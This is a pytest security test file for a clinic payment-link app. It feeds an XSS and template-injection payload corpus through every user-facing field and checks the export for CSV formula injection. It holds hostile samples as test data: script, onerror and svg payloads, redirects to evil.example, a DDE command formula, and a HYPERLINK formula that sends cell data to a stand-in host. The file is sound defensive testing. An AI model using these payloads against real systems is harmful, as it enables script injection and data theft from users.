"""An XSS payload corpus in every field that reaches a page, an email, a text message, the audit
CSV or Square's payment note: never rendered as markup, never evaluated as a template.

The fields: the patient's name, the statement reference and the staff-only description (staff
type them), a refund reason, a staff account's email (admins type it), the search box, the
login page's next=, and a browser's CSP violation report (anyone can post one; admins read it).
"""

from __future__ import annotations

import csv
import io
import re
from email import message_from_bytes, policy
from pathlib import Path

import pytest

from payapp.accounts import UserError, create_user
from payapp.db import get_session
from payapp.links import sign_token
from payapp.models import PaymentLink, StaffUser
from payapp.passwords import hash_password
from payapp.plaintext import has_invisible_characters

from ..conftest import STAFF_PASSWORD, TEST_SECRET, csrf_from, log_in, staff_post, submit_card
from .conftest import assert_escaped, unsafe_markup

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{7*7}}",
    "{{ 1337*1337 }}",
    "${1337*1337}",
    "{% print(1337*1337) %}",
    "{{config}}",
    "'';!--\"<XSS>=&{()}",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "'><svg onload=alert(1)>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<a href="javascript:alert(1)">pay here</a>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<math><mtext></p><img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert('x')\">",
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    '" hx-get="/audit.csv" hx-trigger="load',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--<script>alert(1)</script>-->",
    "<style>*{display:none}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    r"\u003cscript\u003ealert(1)\u003c/script\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
]
# Text-direction spoofing (a bidi override) is refused where staff type it, so it never gets as
# far as a page: proved below; the rest of the corpus is made into links.
REFUSED = [p for p in PAYLOADS if has_invisible_characters(p)]
PAYLOADS = [p for p in PAYLOADS if p not in REFUSED]
SHORT = [p for p in PAYLOADS if len(p) <= 40]  # a statement reference holds 40 characters
PHONE = "(212) 555-0123"
NOTE = "staff-only note"  # starts every description: it must never leave payapp (requirement T4)


@pytest.fixture
def config_overrides():
    return {"LINKS_PER_PAGE": 100}


@pytest.mark.parametrize("field", ["patient_name", "reference", "description"])
def test_an_invisible_character_payload_is_refused_and_makes_no_link(app, staff, field):
    assert REFUSED
    for payload in REFUSED:
        fields = {
            "patient_name": "Maria Lopez",
            "email": "maria@example.com",
            "amount": "10.00",
            "reference": "ST-1",
            "description": "",
            "expires_in_days": "14",
        }
        fields[field] = payload
        response = staff_post(staff, "/links/new", fields)
        assert response.status_code == 422
        assert "Remove the invisible or control characters" in response.text
        assert_escaped(response.text, [payload], f"refused form ({field})")
    with app.app_context():
        assert get_session().query(PaymentLink).count() == 0


@pytest.fixture
def corpus(app, staff):
    """One link per payload, made and sent (email and text) through the staff form."""
    made = []
    for i, payload in enumerate(PAYLOADS):
        reference = SHORT[i % len(SHORT)]
        response = staff_post(
            staff,
            "/links/new",
            {
                "patient_name": payload,
                "email": f"patient{i}@example.com",
                "phone": PHONE,
                "amount": "10.00",
                "reference": reference,
                "description": f"{NOTE} {i}: {payload}"[:200],
                "expires_in_days": "14",
                "send_now": "y",
            },
        )
        assert response.status_code == 303, (payload, response.status_code)
        link_id = int(response.headers["Location"].rsplit("/", 1)[1])
        with app.app_context():
            link = get_session().get(PaymentLink, link_id)
            assert link.patient_name == payload and link.reference == reference
            made.append((link_id, payload, reference, sign_token(link, TEST_SECRET)))
    return made


def test_staff_pages_show_every_payload_as_text(app, staff, corpus):
    listing = staff.get("/links")
    assert listing.text.count('<tr id="link-row-') == len(PAYLOADS)
    assert_escaped(listing.text, PAYLOADS, "link list")
    assert "{{7*7}}" in listing.text  # shown as typed, not evaluated
    for link_id, payload, _reference, _token in corpus:
        detail = staff.get(f"/links/{link_id}")
        assert detail.status_code == 200
        assert_escaped(detail.text, PAYLOADS, f"link detail of {payload!r}")
        found = staff.get("/links", query_string={"q": payload[:100]})
        assert_escaped(found.text, PAYLOADS, f"search for {payload!r}")
    for payload in PAYLOADS[:8]:
        fragment = staff.get("/links", query_string={"q": payload}, headers={"HX-Request": "true"})
        assert_escaped(fragment.text, PAYLOADS, f"search fragment for {payload!r}")
    # The htmx row that replaces a cancelled link in the list.
    link_id = corpus[1][0]
    row = staff_post(
        staff, f"/links/{link_id}/cancel", page_url="/links", headers={"HX-Request": "true"}
    )
    assert row.status_code == 200 and "link-row-" in row.text
    assert_escaped(row.text, PAYLOADS, "cancelled row fragment")


def test_the_new_link_form_shows_rejected_input_back_as_text(staff):
    for payload in PAYLOADS:
        response = staff_post(
            staff,
            "/links/new",
            {
                "patient_name": payload,
                "email": payload,  # not an email address: the form comes back with errors
                "phone": payload,
                "amount": payload,
                "reference": payload,
                "description": payload,
                "expires_in_days": payload,
            },
            page_url="/links/new",
        )
        assert response.status_code == 422
        assert_escaped(response.text, PAYLOADS, f"new-link form with {payload!r}")


def test_patient_pages_show_every_payload_as_text_and_square_gets_only_the_reference(
    client, gateway, corpus
):
    for _link_id, payload, _reference, token in corpus:
        page = client.get(f"/pay/{token}")
        assert page.status_code == 200
        assert_escaped(page.text, PAYLOADS, f"pay page of {payload!r}")
        declined = submit_card(client, f"/pay/{token}", nonce="cnon:card-nonce-declined")
        assert_escaped(declined.text, PAYLOADS, f"decline fragment of {payload!r}")
        paid = submit_card(client, f"/pay/{token}")
        assert "Payment received" in paid.text
        assert_escaped(paid.text, PAYLOADS, f"receipt of {payload!r}")
        assert_escaped(client.get(f"/pay/{token}").text, PAYLOADS, f"paid page of {payload!r}")
        assert NOTE not in page.text + declined.text + paid.text
    # Square's payment note: the statement reference and nothing else, as typed.
    completed = [c for c in gateway.charges if c.source_id == "cnon:card-nonce-ok"]
    assert len(completed) == len(corpus)
    for charge, (_link_id, payload, reference, _token) in zip(completed, corpus, strict=True):
        assert charge.note == f"Payment for statement {reference}"
        assert NOTE not in repr(charge) and payload.split()[0] not in charge.buyer_email


def test_closed_and_error_pages_show_payloads_as_text(client, staff, link_factory):
    payload = PAYLOADS[0]
    link = link_factory(patient_name=payload, reference=SHORT[1])
    staff_post(staff, f"/links/{link.id}/cancel", page_url=f"/links/{link.id}")
    closed = client.get(link.path)
    assert closed.status_code == 410
    assert_escaped(closed.text, PAYLOADS, "closed page")
    for p in PAYLOADS:
        not_found = client.get("/pay/" + p.replace("/", "%2F"))
        assert not_found.status_code == 404
        assert_escaped(not_found.text, PAYLOADS, f"404 for {p!r}")
    assert_escaped(client.get("/no/such/" + payload).text, PAYLOADS, "404 elsewhere")


def test_the_login_page_shows_a_crafted_next_as_text(client):
    for payload in PAYLOADS:
        page = client.get("/login", query_string={"next": "/" + payload})
        assert page.status_code == 200
        assert_escaped(page.text, PAYLOADS, f"login with next=/{payload!r}")


def outbox(app) -> tuple[list, list[str]]:
    folder = Path(app.config["OUTBOX_DIR"])
    emails = [
        message_from_bytes(p.read_bytes(), policy=policy.default) for p in folder.glob("*.eml")
    ]
    texts = [p.read_text(encoding="utf-8") for p in folder.glob("*.txt")]
    return emails, texts


def test_emails_and_text_messages_carry_payloads_as_text(app, corpus):
    emails, texts = outbox(app)
    assert len(emails) == len(texts) == len(PAYLOADS)
    for message in emails:
        html = message.get_body(preferencelist=("html",)).get_content()
        plain = message.get_body(preferencelist=("plain",)).get_content()
        assert_escaped(html, PAYLOADS, f"email HTML part to {message['To']}")
        for part in (html, plain, str(message["Subject"])):
            assert "1787569" not in part and NOTE not in part
        # The reference is in the subject and adds no header (no CR/LF gets that far).
        assert not {k.lower() for k in message} & {"bcc", "cc", "reply-to"}
    subjects = [str(m["Subject"]) for m in emails]
    plains = [m.get_body(preferencelist=("plain",)).get_content() for m in emails]
    assert any(s.endswith("for statement {{7*7}}") for s in subjects)  # as typed, not 49
    assert any("for statement {{7*7}}" in p for p in plains)
    # Texts carry no staff-typed field at all (issue 9: clinic, amount, link, STOP).
    assert all(t.rstrip().endswith("Reply STOP to opt out") for t in texts)
    for text in texts:
        assert "1787569" not in text and NOTE not in text


def test_a_refund_reason_is_shown_as_text_on_the_link_and_its_timeline(admin, client, link_factory):
    link = link_factory(patient_name=PAYLOADS[2], reference=SHORT[3])
    link_id = link.id
    submit_card(client, link.path)
    page = admin.get(f"/links/{link_id}")
    payment_id = re.search(r'name="payment_id" value="(\d+)"', page.text)[1]
    for i, reason in enumerate(PAYLOADS[:8]):
        response = admin.post(
            f"/links/{link_id}/refund",
            data={
                "csrf_token": csrf_from(page.text),
                "payment_id": payment_id,
                "amount": "0.50",
                "reason": reason,
                "refund_key": f"xss-refund-{i:04d}",
            },
        )
        assert response.status_code == 303
    detail = admin.get(f"/links/{link_id}")
    assert detail.text.count("Refund made") == 8  # the timeline lists all eight
    assert_escaped(detail.text, PAYLOADS, "link detail with refunds")
    assert_escaped(admin.get("/audit").text, PAYLOADS, "audit page with refund reasons")


def csp_report(client, value: str):
    return client.post(
        "/csp-report",
        json={
            "csp-report": {
                "document-uri": f"http://localhost/links?q={value}",
                "violated-directive": value,
                "effective-directive": value,
                "blocked-uri": value,
            }
        },
        headers={"Content-Type": "application/csp-report"},
    )


def add_user_with_any_email(email: str) -> None:
    """A staff account whose email create_user() now refuses (email-validator): accounts made
    before that check, or written to the database some other way, must still be shown as text."""
    with pytest.raises(UserError, match="valid email"):
        create_user(get_session(), email, STAFF_PASSWORD, "staff")
    get_session().rollback()
    get_session().add(
        StaffUser(email=email.lower(), password_hash=hash_password(STAFF_PASSWORD), role="staff")
    )
    get_session().commit()


def test_csp_reports_and_staff_emails_are_shown_to_admins_as_text(app, admin, client):
    for payload in PAYLOADS:
        assert csp_report(client, payload).status_code == 204
    with app.app_context():
        add_user_with_any_email("<svg/onload=alert(1)>@example.com")
    rogue = app.test_client()
    assert log_in(rogue, email="<svg/onload=alert(1)>@example.com").status_code == 303
    for path in ("/security", "/audit", "/audit?action=csp.violation"):
        page = admin.get(path)
        assert page.status_code == 200, path
        assert_escaped(page.text, PAYLOADS + ["<svg/onload=alert(1)>"], path)
    assert admin.get("/security").text.count("<tr>") >= len(PAYLOADS)  # the reports are listed
    for payload in PAYLOADS:
        page = admin.get("/audit", query_string={"action": payload})
        assert_escaped(page.text, PAYLOADS, f"audit filtered by {payload!r}")
    users = admin.get("/users")
    if users.status_code == 200:
        assert_escaped(users.text, ["<svg/onload=alert(1)>"], "user list")


def test_a_qr_code_carries_markup_in_an_email_as_modules_not_text(app):
    """The two-step set-up page draws the otpauth:// URI, with the user's email in it, as an
    inline SVG that payapp marks safe (docs/security/bandit.md): the email must not become text
    or markup in it."""
    email = '"><svg/onload=alert(1)><script>alert(1)</script>@example.com'
    with app.app_context():
        add_user_with_any_email(email)
    client = app.test_client()
    assert log_in(client, email=email).status_code == 303
    page = client.get("/account/two-step")
    assert page.status_code == 200 and "<svg" in page.text
    assert_escaped(page.text, [email, "<svg/onload=alert(1)>"], "two-step set-up page")


CSV_FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_the_audit_export_defuses_formulas_in_every_cell(app, admin, client):
    for formula in CSV_FORMULAS:
        assert csp_report(client, formula).status_code == 204
    with app.app_context():
        create_user(get_session(), "=1+1@example.com", STAFF_PASSWORD, "staff")
    assert log_in(app.test_client(), email="=1+1@example.com").status_code == 303
    export = admin.get("/audit.csv")
    assert export.status_code == 200 and export.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(export.text)))
    cells = [cell for row in rows[1:] for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not dangerous, dangerous
    # The values are all there, defused with a leading apostrophe.
    for formula in CSV_FORMULAS:
        assert "'" + formula in cells, formula
    assert "'=1+1@example.com" in cells
    assert TEST_SECRET not in export.text


def test_the_checker_itself_spots_live_markup():
    """The assertions above could fail: unescaped payloads are caught."""
    for payload in (
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        '<a href=" javascript:alert(1)">x</a>',
        "<svg onload=alert(1)>",
        "<iframe src=//evil.example>",
    ):
        assert unsafe_markup(f"<p>{payload}</p>"), payload
    assert not unsafe_markup('<p>&lt;script&gt;alert(1)&lt;/script&gt; <a href="/links">x</a></p>')
